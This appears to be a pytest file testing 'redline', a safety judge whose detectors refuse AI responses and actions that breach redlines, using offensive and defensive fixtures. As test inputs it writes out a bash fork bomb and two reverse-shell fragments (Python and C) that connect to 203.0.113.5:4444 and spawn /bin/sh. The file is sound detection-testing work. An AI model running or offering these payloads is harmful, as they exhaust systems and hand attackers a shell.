"""Every detector: documented, mapped to a redline in force, proven by fixtures of both kinds."""

from __future__ import annotations

from pathlib import Path

import pytest

import redline.redlines.judge as judge_module
from redline.constitution import load_constitution
from redline.redlines import detectors
from tests.redlines.conftest import FIXTURES, fired, judge_fixture

DETECTOR_IDS = [d.id for d in detectors()]


def _fixtures(kind: str) -> list[Path]:
    return sorted(FIXTURES.glob(f"*/{kind}-*"))


def test_every_detector_has_fixtures_of_both_kinds() -> None:
    folders = {p.name for p in FIXTURES.iterdir() if p.is_dir()}
    assert folders == set(DETECTOR_IDS)
    for detector_id in DETECTOR_IDS:
        names = [p.name for p in (FIXTURES / detector_id).iterdir()]
        assert any(n.startswith("offensive-") for n in names), detector_id
        assert any(n.startswith("defensive-") for n in names), detector_id


@pytest.mark.parametrize("detector", detectors(), ids=DETECTOR_IDS)
def test_detector_is_documented_and_cites_a_redline_in_force(detector: object) -> None:
    from redline.redlines.registry import Detector

    assert isinstance(detector, Detector)
    constitution = load_constitution()
    assert constitution.redline(detector.redline)
    assert detector.doc.startswith(detector.id + ":")
    for heading in ("What it catches", "Why it is a redline", "Example", "Allowed instead"):
        assert heading in detector.doc, (detector.id, heading)
    assert f"({detector.redline})" in detector.doc


@pytest.mark.parametrize("detector", detectors(), ids=DETECTOR_IDS)
@pytest.mark.parametrize("kind", ["response", "action"])
def test_detector_needs_some_capability(detector: object, kind: str) -> None:
    """`evaluate` skips the detectors when nothing was found; that holds only while none fires
    on nothing."""
    from redline.redlines.capabilities import Capabilities
    from redline.redlines.registry import Detector

    assert isinstance(detector, Detector)
    assert detector(Capabilities(kind=kind)) is None  # type: ignore[arg-type]


@pytest.mark.parametrize("path", _fixtures("offensive"), ids=lambda p: f"{p.parent.name}/{p.name}")
def test_offensive_fixture_is_refused_by_its_detector(path: Path) -> None:
    verdict = judge_fixture(path)
    assert verdict.refused, verdict.explanation
    assert path.parent.name in fired(verdict), verdict.notes
    redline_id = next(d.redline for d in detectors() if d.id == path.parent.name)
    assert redline_id in verdict.redlines
    assert verdict.evidence


@pytest.mark.parametrize("path", _fixtures("defensive"), ids=lambda p: f"{p.parent.name}/{p.name}")
def test_defensive_fixture_is_allowed(path: Path) -> None:
    verdict = judge_fixture(path)
    assert not verdict.refused, verdict.explanation
    assert verdict.principles


@pytest.mark.parametrize("detector_id", DETECTOR_IDS)
def test_offensive_fixtures_fail_without_their_detector(
    detector_id: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Some offensive fixture of each detector is refused under its redline by that detector
    alone (the learned weighing of capabilities may still refuse it, under RL-MALWARE)."""
    redline_id = next(d.redline for d in detectors() if d.id == detector_id)
    others = tuple(d for d in detectors() if d.id != detector_id)
    monkeypatch.setattr(judge_module, "detectors", lambda: others)
    still_refused = [
        redline_id in judge_fixture(p).redlines
        for p in sorted((FIXTURES / detector_id).glob("offensive-*"))
    ]
    assert not all(still_refused), f"{detector_id}'s fixtures are all caught by other detectors"


@pytest.mark.parametrize("path", _fixtures("offensive"), ids=lambda p: f"{p.parent.name}/{p.name}")
def test_evidence_quotes_the_judged_text(path: Path) -> None:
    text = path.read_text("utf-8")
    judged = text if path.suffix == ".md" else text.strip()
    for span in judge_fixture(path).evidence:
        assert judged[span.start : span.end] == span.text


def test_dropping_a_redline_from_the_constitution_drops_its_detectors() -> None:
    from redline.constitution import Constitution
    from redline.redlines import judge_action

    full = load_constitution()
    reduced = Constitution.model_validate(
        {
            **full.model_dump(),
            "redlines": [r.model_dump() for r in full.redlines if r.id != "RL-DOS"],
        }
    )
    assert judge_action(":(){ :|:& };:", constitution=full).refused
    assert not judge_action(":(){ :|:& };:", constitution=reduced).refused


@pytest.mark.parametrize(
    "fragment",
    [
        # cut off mid-statement: tree-sitter recovers, the patterns still read the text
        "```python\nimport socket, os, pty\ns=socket.socket(); s.connect(('203.0.113.5', 4444)\n"
        "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1\npty.spawn('/bin/sh'",
        # no fence, no language tag, unbalanced braces
        "int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, (struct sockaddr *)&a, sizeof a);\n"
        'dup2(s, 0); dup2(s, 1); execve("/bin/sh", 0, 0); {{{',
    ],
)
def test_fragments_that_do_not_parse_are_still_judged(fragment: str) -> None:
    from redline.redlines import judge_response

    verdict = judge_response(fragment)
    assert verdict.refused, verdict.explanation
    assert "RL-PERSISTENCE" in verdict.redlines


def test_the_package_still_names_the_detectors_function_once_they_are_loaded() -> None:
    """`from redline.redlines import detectors` gives the function, before and after the detector
    modules (a subpackage of the same name) are imported."""
    import redline.redlines as package
    from redline.redlines.registry import detectors as listed

    assert listed()  # imports every detector module
    assert package.detectors is listed
